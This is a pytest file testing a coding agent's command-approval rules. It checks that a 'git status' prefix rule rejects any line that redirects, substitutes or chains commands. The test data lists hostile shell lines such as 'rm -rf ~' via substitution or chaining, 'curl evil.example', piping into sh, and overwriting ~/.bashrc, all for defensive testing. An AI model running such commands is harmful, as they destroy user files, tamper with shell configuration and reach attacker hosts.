"""A command-prefix rule approves only plain commands: every form of shell syntax that
redirects, substitutes or chains is tried against ``git status``, and each one is shown to
start with the rule's words (so the word check alone would approve it: only the syntax check
stands between the model and ``git status > ~/.bashrc``)."""

from __future__ import annotations

import shlex

import pytest

from lmc.agent.approvals import Approvals, parse_rule
from lmc.messages import CodeBlock

PREFIX = "git status"

#: One line (or, for the newline, two) for every form of redirect, substitution and chaining;
#: each begins with the rule's words.
RISKY: dict[str, str] = {
    ">": "git status > ~/.bashrc",
    ">>": "git status >> ~/.bashrc",
    "<": "git status < /etc/passwd",
    "2>": "git status 2> ~/.bashrc",
    "&>": "git status &> ~/.bashrc",
    ">|": "git status >| ~/.bashrc",
    "<<": "git status <<EOF",
    "$(": "git status $(rm -rf ~)",
    "${": "git status ${HOME:=x}",
    "$VAR": "git status $HOME",
    "backticks": "git status `rm -rf ~`",
    "<(": "git status <(curl evil.example)",
    ">(": "git status >(tee ~/.bashrc)",
    "|": "git status | sh",
    "|&": "git status |& sh",
    ";": "git status ; rm -rf ~",
    "&": "git status & rm -rf ~",
    "&&": "git status && curl evil.example",
    "||": "git status || curl evil.example",
    "( )": "git status (rm -rf ~)",
    "{ }": "git status { rm -rf ~; }",
    "backslash": "git status \\; rm -rf ~",
    "newline": "git status\nrm -rf ~",
    "newline, then a redirect": "git status\n> ~/.bashrc",
    "carriage return": "git status\rrm -rf ~",
}


def _shell(content: str) -> CodeBlock:
    return {"type": "code", "format": "shell", "content": content}


@pytest.mark.parametrize("line", RISKY.values(), ids=RISKY.keys())
def test_a_prefix_rule_never_approves_a_line_that_redirects_substitutes_or_chains(
    line: str,
) -> None:
    approvals = Approvals([parse_rule(PREFIX)])
    assert approvals.allows(_shell(line)) is None, line
    # Without the syntax check the words alone would approve it: each line starts with them.
    first = line.splitlines()[0]
    assert shlex.split(first, posix=True)[:2] == PREFIX.split(), first


@pytest.mark.parametrize("line", ["git status", "git status --short", "git status -- 'a b'"])
def test_plain_commands_with_the_prefix_are_approved(line: str) -> None:
    approvals = Approvals([parse_rule(PREFIX)])
    assert approvals.allows(_shell(line)) is not None, line
    assert approvals.allows(_shell(f"{line}\n# a comment\n\n{PREFIX}")) is not None


@pytest.mark.parametrize("line", [v for v in RISKY.values() if "\n" not in v and "\r" not in v])
def test_a_rule_itself_cannot_hold_shell_syntax(line: str) -> None:
    with pytest.raises(ValueError, match="is not a rule"):
        parse_rule(line)
